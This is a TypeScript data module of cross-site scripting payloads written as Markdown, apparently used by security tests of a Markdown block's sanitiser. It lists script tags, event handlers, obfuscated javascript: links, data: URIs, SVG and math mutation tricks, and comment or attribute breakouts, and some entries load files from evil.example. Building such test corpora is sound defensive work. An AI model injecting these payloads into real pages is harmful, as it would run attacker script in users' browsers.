/**
 * Cross-site scripting payloads written as the `source` of a Markdown block. Shared by the jest
 * security test (render.ts and save) and, later, the browser test of the published page, so keep
 * it a plain data module with no test-framework imports.
 *
 * `harmlessEvenUnsanitised` marks payloads that stay inert even through a deliberately unsafe
 * Markdown conversion (raw HTML on, every URL accepted): markdown-it escapes them itself, or the
 * HTML parser turns them into a comment or text. Every other payload must be caught by the
 * checker when nothing sanitises it, which proves the checker can fail.
 */

export type XssPayload = {
	/** Short unique name, used in test titles. */
	name: string;
	category:
		| 'script'
		| 'event-handler'
		| 'javascript-link'
		| 'other-scheme'
		| 'svg'
		| 'embedding-tag'
		| 'reference-link'
		| 'autolink'
		| 'comment-cdata'
		| 'entity'
		| 'attribute-injection';
	/** The Markdown source as an author would type it. */
	markdown: string;
	harmlessEvenUnsanitised?: true;
};

export const xssPayloads: XssPayload[] = [
	// Script tags.
	{
		name: 'plain script',
		category: 'script',
		markdown: '<script>alert(1)</script>',
	},
	{
		name: 'upper-case external script',
		category: 'script',
		markdown: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
	},
	{
		name: 'nested script',
		category: 'script',
		markdown: '<scr<script>ipt>alert(1)</scr</script>ipt>',
	},
	{
		name: 'unclosed script',
		category: 'script',
		markdown: '<script>alert(1)',
	},
	{
		name: 'script with newline in tag',
		category: 'script',
		markdown: '<script\n>alert(1)</script\n>',
	},
	{
		name: 'script inside a paragraph',
		category: 'script',
		markdown: 'Hello <script>alert(1)</script> world',
	},
	{
		name: 'script in a list item',
		category: 'script',
		markdown: '- one\n- <script>alert(1)</script>',
	},
	{
		name: 'script in a table cell',
		category: 'script',
		markdown: '| a |\n|---|\n| <script>alert(1)</script> |',
	},
	{
		name: 'script in link text',
		category: 'script',
		markdown: '[<script>alert(1)</script>](https://example.com)',
	},
	{
		name: 'script in a blockquote',
		category: 'script',
		markdown: '> <script>alert(1)</script>',
	},
	{
		name: 'script in a fenced code block',
		category: 'script',
		markdown: '```html\n<script>alert(1)</script>\n```',
		harmlessEvenUnsanitised: true,
	},

	// Event handlers.
	{
		name: 'img onerror',
		category: 'event-handler',
		markdown: '<img src=x onerror=alert(1)>',
	},
	{
		name: 'img onerror quoted, self-closed',
		category: 'event-handler',
		markdown: 'Look: <img src="x" onerror="alert(1)" />',
	},
	{
		name: 'svg onload',
		category: 'event-handler',
		markdown: '<svg onload=alert(1)>',
	},
	{
		name: 'body onload',
		category: 'event-handler',
		markdown: '<body onload=alert(1)>',
	},
	{
		name: 'iframe onload',
		category: 'event-handler',
		markdown: '<iframe onload=alert(1) src="https://example.com"></iframe>',
	},
	{
		name: 'div onmouseover',
		category: 'event-handler',
		markdown: '<div onmouseover="alert(1)">hover me</div>',
	},
	{
		name: 'link onclick',
		category: 'event-handler',
		markdown: 'A <a href="https://example.com" onclick="alert(1)">link</a>',
	},
	{
		name: 'details ontoggle',
		category: 'event-handler',
		markdown: '<details open ontoggle=alert(1)>',
	},
	{
		name: 'handler with entity-encoded code',
		category: 'event-handler',
		markdown: '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
	},

	// javascript: links.
	{
		name: 'javascript link',
		category: 'javascript-link',
		markdown: '[click](javascript:alert(1))',
	},
	{
		name: 'mixed-case javascript link',
		category: 'javascript-link',
		markdown: '[click](JaVaScRiPt:alert(1))',
	},
	{
		name: 'decimal entity javascript link',
		category: 'javascript-link',
		markdown: '[click](&#106;avascript:alert(1))',
	},
	{
		name: 'hex entity javascript link',
		category: 'javascript-link',
		markdown: '[click](&#x6A;avascript:alert(1))',
	},
	{
		name: 'fully entity-encoded javascript link',
		category: 'javascript-link',
		markdown:
			'[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
	},
	{
		name: 'tab inside the scheme',
		category: 'javascript-link',
		markdown: '[click](<java\tscript:alert(1)>)',
	},
	{
		name: 'entity tab inside the scheme',
		category: 'javascript-link',
		markdown: '[click](java&#x09;script:alert(1))',
	},
	{
		name: 'entity newline inside the scheme',
		category: 'javascript-link',
		markdown: '[click](java&#x0A;script:alert(1))',
	},
	{
		name: 'leading spaces',
		category: 'javascript-link',
		markdown: '[click](   javascript:alert(1))',
	},
	{
		name: 'leading entity space',
		category: 'javascript-link',
		markdown: '[click](&#32;javascript:alert(1))',
	},
	{
		name: 'colon as an entity',
		category: 'javascript-link',
		markdown: '[click](javascript&colon;alert(1))',
	},
	{
		name: 'javascript link with title',
		category: 'javascript-link',
		markdown: '[click](javascript:alert(1) "title")',
	},
	{
		name: 'raw html javascript link',
		category: 'javascript-link',
		markdown: '<a href="javascript:alert(1)">click</a>',
	},
	{
		name: 'raw html link with tab and entities',
		category: 'javascript-link',
		markdown: '<a href=" &#14; jav&#x09;ascript:alert(1)">click</a>',
	},

	// Other schemes.
	{
		name: 'vbscript link',
		category: 'other-scheme',
		markdown: '[click](vbscript:msgbox(1))',
	},
	{
		name: 'data:text/html link',
		category: 'other-scheme',
		markdown:
			'[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	},
	{
		name: 'data:text/html image',
		category: 'other-scheme',
		markdown: '![x](data:text/html,<script>alert(1)</script>)',
	},
	{
		name: 'data:image/svg+xml image',
		category: 'other-scheme',
		markdown:
			'![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
	},
	{
		name: 'javascript image',
		category: 'other-scheme',
		markdown: '![x](javascript:alert(1))',
	},
	{
		name: 'raw html data image',
		category: 'other-scheme',
		markdown: '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
	},

	// SVG.
	{
		name: 'svg script',
		category: 'svg',
		markdown: '<svg><script>alert(1)</script></svg>',
	},
	{
		name: 'svg xlink:href javascript',
		category: 'svg',
		markdown:
			'<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
	},
	{
		name: 'svg animate onbegin',
		category: 'svg',
		markdown: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	},
	{
		name: 'svg set href',
		category: 'svg',
		markdown:
			'<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
	},
	{
		name: 'math mutation',
		category: 'svg',
		markdown:
			'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	},

	// Tags that embed, submit or redirect.
	{
		name: 'iframe javascript src',
		category: 'embedding-tag',
		markdown: '<iframe src="javascript:alert(1)"></iframe>',
	},
	{
		name: 'iframe srcdoc',
		category: 'embedding-tag',
		markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	},
	{
		name: 'object data',
		category: 'embedding-tag',
		markdown: '<object data="javascript:alert(1)"></object>',
	},
	{
		name: 'embed',
		category: 'embedding-tag',
		markdown: '<embed src="https://evil.example/x.swf">',
	},
	{
		name: 'form action',
		category: 'embedding-tag',
		markdown:
			'<form action="javascript:alert(1)"><button>Go</button></form>',
	},
	{
		name: 'button formaction',
		category: 'embedding-tag',
		markdown: '<button formaction="javascript:alert(1)">Go</button>',
	},
	{
		name: 'meta refresh',
		category: 'embedding-tag',
		markdown:
			'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	},
	{
		name: 'base href',
		category: 'embedding-tag',
		markdown: '<base href="javascript:alert(1)//">',
	},
	{
		name: 'style tag',
		category: 'embedding-tag',
		markdown: '<style>body{background:url("javascript:alert(1)")}</style>',
	},
	{
		name: 'link stylesheet',
		category: 'embedding-tag',
		markdown: '<link rel="stylesheet" href="https://evil.example/x.css">',
	},
	{
		name: 'style attribute expression',
		category: 'embedding-tag',
		markdown: '<p style="width:expression(alert(1))">x</p>',
	},

	// Reference-style links.
	{
		name: 'reference link to javascript',
		category: 'reference-link',
		markdown: '[click][evil]\n\n[evil]: javascript:alert(1)',
	},
	{
		name: 'reference in angle brackets with title',
		category: 'reference-link',
		markdown: '[click][evil]\n\n[evil]: <javascript:alert(1)> "t"',
	},
	{
		name: 'shortcut reference with entities',
		category: 'reference-link',
		markdown: '[evil]\n\n[evil]: &#106;avascript:alert(1)',
	},
	{
		name: 'reference image to javascript',
		category: 'reference-link',
		markdown: '![x][img]\n\n[img]: javascript:alert(1)',
	},
	{
		name: 'upper-case reference',
		category: 'reference-link',
		markdown: '[click][EVIL]\n\n[evil]: JAVASCRIPT:alert(1)',
	},

	// Autolinks.
	{
		name: 'javascript autolink',
		category: 'autolink',
		markdown: '<javascript:alert(1)>',
	},
	{
		name: 'upper-case javascript autolink',
		category: 'autolink',
		markdown: '<JAVASCRIPT:alert(1)>',
	},
	{
		name: 'vbscript autolink',
		category: 'autolink',
		markdown: '<vbscript:msgbox(1)>',
	},
	{
		name: 'data autolink',
		category: 'autolink',
		markdown:
			'<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>',
	},

	// Comments and CDATA.
	{
		name: 'script between comments',
		category: 'comment-cdata',
		markdown: '<!-- x --><script>alert(1)</script><!-- y -->',
	},
	{
		name: 'comment closed inside an attribute',
		category: 'comment-cdata',
		markdown: '<!--<img src="--><img src=x onerror=alert(1)//">',
	},
	{
		name: 'cdata wrapper',
		category: 'comment-cdata',
		markdown: '<![CDATA[<script>alert(1)</script>]]>',
		harmlessEvenUnsanitised: true,
	},
	{
		name: 'conditional comment',
		category: 'comment-cdata',
		markdown: '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
		harmlessEvenUnsanitised: true,
	},
	{
		name: 'cdata inside svg',
		category: 'comment-cdata',
		markdown: '<svg><![CDATA[ ]]><script>alert(1)</script></svg>',
	},
	{
		name: 'block-comment breakout',
		category: 'comment-cdata',
		markdown: '--> <!-- /wp:jetpack/markdown --><script>alert(1)</script>',
	},

	// Entity tricks.
	{
		name: 'entity-escaped script',
		category: 'entity',
		markdown: '&lt;script&gt;alert(1)&lt;/script&gt;',
		harmlessEvenUnsanitised: true,
	},
	{
		name: 'numeric-entity script',
		category: 'entity',
		markdown: '&#60;script&#62;alert(1)&#60;/script&#62;',
		harmlessEvenUnsanitised: true,
	},
	{
		name: 'entity in raw html href',
		category: 'entity',
		markdown:
			'<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
	},

	// Attempts to break out of attributes markdown-it writes.
	{
		name: 'quote in link title',
		category: 'attribute-injection',
		markdown:
			'[x](https://example.com "&quot; onmouseover=&quot;alert(1)")',
		harmlessEvenUnsanitised: true,
	},
	{
		name: 'quote in image title',
		category: 'attribute-injection',
		markdown: '![x](https://example.com/x.png "\\" onerror=\\"alert(1)")',
		harmlessEvenUnsanitised: true,
	},
	{
		name: 'quote in link destination',
		category: 'attribute-injection',
		markdown: '[x](<https://example.com/" onmouseover="alert(1)>)',
		harmlessEvenUnsanitised: true,
	},
	{
		name: 'quote in code fence info',
		category: 'attribute-injection',
		markdown: '```" onmouseover="alert(1)\ncode\n```',
		harmlessEvenUnsanitised: true,
	},
];
